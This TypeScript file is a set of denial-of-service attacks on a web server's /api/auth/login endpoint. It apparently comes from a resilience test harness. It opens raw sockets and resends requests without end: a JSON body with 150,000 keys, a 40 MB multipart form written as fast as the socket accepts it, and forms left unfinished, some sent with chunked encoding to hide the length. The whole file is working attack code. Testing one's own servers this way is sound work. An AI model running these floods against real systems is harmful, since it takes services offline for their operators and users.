import { connect, type Socket } from 'node:net'

/**
 * What is attacked: a server, with the sign-in of an employee and the address of a post's styles for what needs them; `staff` is the
 * sign-in of somebody who may edit these posts.
 */
export type Target = { url: string; token: string; styles: string; staff: string; posts: readonly number[] }

/** One connection's attack, again and again until its process ends; says each time that it was tried. */
export type Attack = (target: Target, tried: () => void) => Promise<never>

/** Opens a connection and lets `pour` write to it; done when the server hangs up or has answered. */
const attempt = (url: string, pour: (socket: Socket) => void): Promise<void> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(url)
    const socket = connect(Number(port), hostname, () => pour(socket))
    socket.on('error', () => undefined)
    // Reading slowly what is said is no part of these attacks.
    socket.on('data', () => socket.destroy())
    socket.on('close', () => resolve())
  })

const again =
  (pour: (socket: Socket) => void): Attack =>
  async ({ url }, tried) => {
    for (;;) {
      await attempt(url, pour)
      tried()
    }
  }

const head = (path: string, type: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nhost: attack\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n`

const manyKeys = JSON.stringify(Object.fromEntries(Array.from({ length: 150_000 }, (_, index) => [index, 1])))
const part = '--b\r\ncontent-disposition: form-data; name="a"\r\n\r\nb\r\n'
const parts = Buffer.from(part.repeat(1_000))
const form = 'multipart/form-data; boundary=b'

/** Writes pieces as fast as they are taken, up to so many bytes. */
const pourUpTo = (socket: Socket, piece: Buffer, most: number) => {
  const go = () => {
    while (!socket.destroyed && socket.bytesWritten < most) if (!socket.write(piece)) return
  }
  socket.on('drain', go)
  go()
}

/** What anybody can do who has no account. */
export const anonymousAttacks: Readonly<Record<string, Attack>> = {
  '150,000 keys': again((socket) => {
    socket.write(head('/api/auth/login', 'application/json', manyKeys.length))
    socket.write(manyKeys)
  }),
  '150,000 keys, length unsaid': again((socket) => {
    socket.write(
      'POST /api/auth/login HTTP/1.1\r\nhost: attack\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n',
    )
    socket.write(`${manyKeys.length.toString(16)}\r\n${manyKeys}\r\n0\r\n\r\n`)
  }),
  '40 MB of form': again((socket) => {
    socket.write(head('/api/auth/login', form, 40_000_000))
    pourUpTo(socket, parts, 40_000_000)
  }),
  '40 MB of form, length unsaid': again((socket) => {
    socket.write(
      `POST /api/auth/login HTTP/1.1\r\nhost: attack\r\ncontent-type: ${form}\r\ntransfer-encoding: chunked\r\n\r\n`,
    )
    pourUpTo(socket, Buffer.from(`${parts.length.toString(16)}\r\n${parts.toString()}\r\n`), 40_000_000)
  }),
  'unfinished forms': again((socket) => {
    socket.write(head('/api/auth/login', form, 9_000))
    socket.write(part)
  }),
}
